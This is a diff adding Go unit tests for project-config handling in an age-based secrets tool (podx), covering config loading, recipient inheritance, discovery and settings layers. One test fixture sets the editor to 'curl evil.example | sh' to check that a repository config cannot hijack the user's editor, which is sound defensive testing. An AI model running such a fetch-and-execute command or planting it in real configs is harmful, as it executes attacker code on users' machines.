@@ -0,0 +1,264 @@
+package project
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/hades/podx/config"
+	"github.com/hades/podx/crypto"
+	"github.com/hades/podx/keygen"
+)
+
+// writeConfig writes a .podx.yaml with the given recipients (name=key) to dir
+func writeConfig(t *testing.T, dir string, root bool, recipients ...string) {
+	t.Helper()
+	var sb strings.Builder
+	sb.WriteString("version: 1\nbackend: age\n")
+	if root {
+		sb.WriteString("root: true\n")
+	}
+	sb.WriteString("recipients:\n")
+	for _, r := range recipients {
+		name, key, _ := strings.Cut(r, "=")
+		sb.WriteString("  - name: " + name + "\n    key: " + key + "\n")
+	}
+	sb.WriteString("secrets:\n  - path: .env\n")
+
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, ConfigFileName), []byte(sb.String()), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func recipientKeys(p *Project) []string {
+	var keys []string
+	for _, r := range p.Recipients() {
+		keys = append(keys, r.Key)
+	}
+	return keys
+}
+
+func TestLoad(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	writeConfig(t, dir, false, "alice=age1alice")
+	sub := filepath.Join(dir, "a", "b")
+	if err := os.MkdirAll(sub, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	p, err := Load(sub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.RootDir != dir {
+		t.Errorf("RootDir = %q, want %q", p.RootDir, dir)
+	}
+	if p.Parent != nil {
+		t.Errorf("unexpected parent %q", p.Parent.RootDir)
+	}
+
+	// The git root bounds the search
+	outside := t.TempDir()
+	if err := os.Mkdir(filepath.Join(outside, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(outside); err == nil {
+		t.Error("expected an error without .podx.yaml")
+	}
+}
+
+func TestLoadInvalidFormat(t *testing.T) {
+	dir := t.TempDir()
+	config := "version: 1\nbackend: age\nsecrets:\n  - path: app.conf\n    format: xml\n"
+	if err := os.WriteFile(filepath.Join(dir, ConfigFileName), []byte(config), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(dir); err == nil || !strings.Contains(err.Error(), "app.conf") {
+		t.Errorf("expected an error naming the secret, got %v", err)
+	}
+}
+
+func TestRecipientsInheritance(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	writeConfig(t, dir, false, "alice=age1alice", "bob=age1bob")
+	writeConfig(t, filepath.Join(dir, "svc"), false, "bob=age1bob", "carol=age1carol")
+	writeConfig(t, filepath.Join(dir, "svc", "inner"), false, "dave=age1dave")
+	writeConfig(t, filepath.Join(dir, "isolated"), true, "erin=age1erin")
+
+	tests := []struct {
+		dir  string
+		want []string
+	}{
+		{".", []string{"age1alice", "age1bob"}},
+		{"svc", []string{"age1bob", "age1carol", "age1alice"}},
+		{"svc/inner", []string{"age1dave", "age1bob", "age1carol", "age1alice"}},
+		{"isolated", []string{"age1erin"}},
+	}
+	for _, tt := range tests {
+		p, err := Load(filepath.Join(dir, filepath.FromSlash(tt.dir)))
+		if err != nil {
+			t.Fatalf("%s: %v", tt.dir, err)
+		}
+		if got := recipientKeys(p); !slices.Equal(got, tt.want) {
+			t.Errorf("%s: Recipients() = %q, want %q", tt.dir, got, tt.want)
+		}
+	}
+}
+
+func TestDiscover(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	writeConfig(t, dir, false, "alice=age1alice")
+	writeConfig(t, filepath.Join(dir, "svc"), false, "bob=age1bob")
+	writeConfig(t, filepath.Join(dir, "svc", "inner"), true, "carol=age1carol")
+	writeConfig(t, filepath.Join(dir, "node_modules", "dep"), false, "mallory=age1mallory")
+
+	p, err := Load(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	projects, err := Discover(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var roots []string
+	for _, q := range projects {
+		rel, _ := filepath.Rel(dir, q.RootDir)
+		roots = append(roots, filepath.ToSlash(rel))
+	}
+	if want := []string{".", "svc", "svc/inner"}; !slices.Equal(roots, want) {
+		t.Fatalf("Discover() = %q, want %q", roots, want)
+	}
+	if got := recipientKeys(projects[1]); !slices.Equal(got, []string{"age1bob", "age1alice"}) {
+		t.Errorf("svc recipients = %q", got)
+	}
+	if got := recipientKeys(projects[2]); !slices.Equal(got, []string{"age1carol"}) {
+		t.Errorf("svc/inner recipients = %q", got)
+	}
+}
+
+func TestStatusInheritedLabel(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	// The project repeats bob, so deduplication shifts the inherited ones
+	writeConfig(t, dir, false, "alice=age1alice", "bob=age1bob")
+	writeConfig(t, filepath.Join(dir, "svc"), false, "bob=age1bob", "bob2=age1bob", "x=k")
+
+	p, err := Load(filepath.Join(dir, "svc"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	status := p.Status()
+	for _, line := range strings.Split(status, "\n") {
+		switch {
+		case strings.Contains(line, "- bob "):
+			if strings.Contains(line, "(inherited)") {
+				t.Errorf("own recipient labeled inherited: %q", line)
+			}
+		case strings.Contains(line, "- x "):
+			if !strings.Contains(line, "(k)") || strings.Contains(line, "(inherited)") {
+				t.Errorf("short key line: %q", line)
+			}
+		case strings.Contains(line, "- alice "):
+			if !strings.Contains(line, "(inherited)") {
+				t.Errorf("parent recipient not labeled inherited: %q", line)
+			}
+		}
+	}
+}
+
+func TestDecryptAllRegistersProject(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	for _, env := range []string{"XDG_CONFIG_HOME", "PODX_AGENT_SOCK", "PODX_AGE_KEY_FILE", "SOPS_AGE_KEY_FILE"} {
+		t.Setenv(env, "")
+	}
+	identity, recipient, err := crypto.GenerateAgeKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("PODX_AGE_KEY", identity)
+
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	writeConfig(t, dir, false, "me="+recipient)
+	if err := os.WriteFile(filepath.Join(dir, ".env"), []byte("A=1\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	p, err := Load(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := p.EncryptAll(); err != nil {
+		t.Fatal(err)
+	}
+
+	// A clone: the files are only ever decrypted here
+	if err := os.RemoveAll(filepath.Join(home, ".config", "podx", "projects.txt")); err != nil {
+		t.Fatal(err)
+	}
+	if n, err := p.DecryptAll(); err != nil || n != 1 {
+		t.Fatalf("DecryptAll() = %d, %v", n, err)
+	}
+	if !slices.Contains(keygen.Projects(), dir) {
+		t.Errorf("%s not registered after decrypt: %q", dir, keygen.Projects())
+	}
+}
+
+func TestSettingsLayers(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	writeConfig(t, dir, false, "alice=age1alice")
+	f, err := os.OpenFile(filepath.Join(dir, ConfigFileName), os.O_APPEND|os.O_WRONLY, 0644)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defaults := "defaults:\n  identity: ./repo-key.txt\n  editor: curl evil.example | sh\n  format: json\n  kdf: moderate\n"
+	if _, err := f.WriteString(defaults); err != nil {
+		t.Fatal(err)
+	}
+	f.Close()
+
+	p, err := Load(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	layers := p.SettingsLayers()
+	if len(layers) != 1 {
+		t.Fatalf("SettingsLayers() = %d layers, want 1", len(layers))
+	}
+	s := layers[0].Settings
+	if s.Identity != "" || s.Editor != "" {
+		t.Errorf("project set identity %q, editor %q", s.Identity, s.Editor)
+	}
+	if s.Format != "json" || s.KDF != "moderate" {
+		t.Errorf("format %q, kdf %q lost", s.Format, s.KDF)
+	}
+
+	// The user's identity and editor still apply below the project
+	user := config.Layer{Name: "user", Settings: config.Settings{Identity: "~/key.txt", Editor: "nano", Format: "yaml"}}
+	r := config.Resolve(append(layers, user)...)
+	if r.Identity != "~/key.txt" || r.Editor != "nano" || r.Format != "json" {
+		t.Errorf("Resolve() = identity %q, editor %q, format %q", r.Identity, r.Editor, r.Format)
+	}
+}